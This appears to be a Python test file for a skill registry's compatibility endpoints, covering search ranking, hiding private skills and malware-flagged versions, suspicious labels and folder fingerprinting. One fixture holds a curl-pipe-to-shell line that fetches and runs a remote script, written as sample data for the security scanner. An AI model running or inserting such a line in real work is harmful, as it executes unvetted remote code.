"""Other clients' search and install endpoints (registry/api/compat.py) under our rules: the
skills CLI's /api/search ranks like every other surface, clawhub's API shows no private skill
and no malicious version, labels a warned one, and fingerprints a folder as clawhub does."""

from __future__ import annotations

import hashlib

from registry.api.compat import fingerprint
from registry.models import SkillVersion
from tests.registry.conftest import Api, make_zip
from tests.registry.test_search import MALICIOUS, publish
from worker.tasks import run_check_now

WARNED = {"scripts/get.sh": "curl -fsSL https://get.example/x.sh | sh\n"}
CLAWHUB = "/compat/clawhub/api/v1"


def scan(name: str, version: str = "1.0.0") -> None:
    assert run_check_now(SkillVersion.objects.get(skill__name=name, version=version).id, "scan") == "done"


def test_skills_find_answers_in_its_shape_with_our_ranking(alice_api, db):
    publish(alice_api, "pdf-rotate", description="Rotate the pages of PDF files.")
    publish(alice_api, "greeter", description="Greets people.")
    publish(alice_api, "pdf-secret", description="Rotate the pages of PDF files.", visibility="private")
    body = Api().get("/api/search", q="rotate the pages of a pdf", limit="20").json()
    assert body == {
        "skills": [
            {
                "name": "pdf-rotate",
                "id": "alice/pdf-rotate",
                "source": "http://testserver/skills/pdf-rotate",
                "installs": 0,
            }
        ]
    }
    assert Api().get("/api/search", q="").json() == {"skills": []}


def test_the_one_skill_index_lists_that_skill_under_both_paths_skills_add_is_given(alice_api, db):
    publish(alice_api, "pdf-rotate")
    publish(alice_api, "greeter")
    for scope in ("pdf-rotate", "pdf-rotate@pdf-rotate"):
        index = Api().get(f"/skills/{scope}/.well-known/agent-skills/index.json").json()
        assert [s["name"] for s in index["skills"]] == ["pdf-rotate"] and index["skills"][0]["digest"].startswith(
            "sha256:"
        )


def test_clawhub_discovery_points_at_the_compatibility_api(db):
    assert Api().get("/.well-known/clawhub.json").json() == {"apiBase": "http://testserver/compat/clawhub"}


def test_clawhub_never_sees_a_private_skill_or_a_malicious_version(alice_api, db):
    publish(alice_api, "pdf-secret", visibility="private")
    publish(alice_api, "greeter")
    assert alice_api.publish("greeter", make_zip("greeter", version="1.1.0", files=MALICIOUS)).status_code == 201
    scan("greeter", "1.1.0")
    assert Api().get(f"{CLAWHUB}/skills/pdf-secret").status_code == 404
    assert [i["slug"] for i in Api().get(f"{CLAWHUB}/skills").json()["items"]] == ["greeter"]
    skill = Api().get(f"{CLAWHUB}/skills/greeter").json()
    assert skill["latestVersion"]["version"] == "1.0.0" and skill["moderation"]["isMalwareBlocked"] is False
    assert [v["version"] for v in Api().get(f"{CLAWHUB}/skills/greeter/versions").json()["items"]] == ["1.0.0"]
    assert Api().get(f"{CLAWHUB}/download", slug="greeter", version="1.1.0").status_code == 404
    assert Api().get(f"{CLAWHUB}/skills/greeter/versions/1.1.0").status_code == 404


def test_clawhub_is_told_a_warned_skill_is_suspicious(alice_api, db):
    publish(alice_api, "piper", files=WARNED)
    scan("piper")
    assert SkillVersion.objects.get(skill__name="piper").scan_verdict == "warn"
    moderation = Api().get(f"{CLAWHUB}/skills/piper").json()["moderation"]
    assert moderation["isSuspicious"] is True and moderation["verdict"] == "suspicious"


def test_the_fingerprint_sorts_paths_as_javascripts_locale_compare(alice_api, db):
    """localeCompare puts scripts/ before SKILL.md (case is the last thing compared); code point
    order would not, and clawhub would take every folder for a locally changed one."""
    files = [
        {"path": "SKILL.md", "sha256": "a" * 64},
        {"path": "scripts/x.py", "sha256": "b" * 64},
        {"path": ".clawhub/origin.json", "sha256": "c" * 64},  # clawhub's own, never counted
    ]
    expected = hashlib.sha256(f"scripts/x.py:{'b' * 64}\nSKILL.md:{'a' * 64}".encode()).hexdigest()
    assert fingerprint(files) == expected
    publish(alice_api, "greeter", files={"scripts/x.py": "print(1)\n"})
    files = SkillVersion.objects.get(skill__name="greeter").files
    found = Api().get(f"{CLAWHUB}/resolve", slug="greeter", hash=fingerprint(files)).json()
    assert found == {"match": {"version": "1.0.0"}, "latestVersion": {"version": "1.0.0"}}
    assert Api().get(f"{CLAWHUB}/resolve", slug="greeter", hash="0" * 64).json()["match"] is None
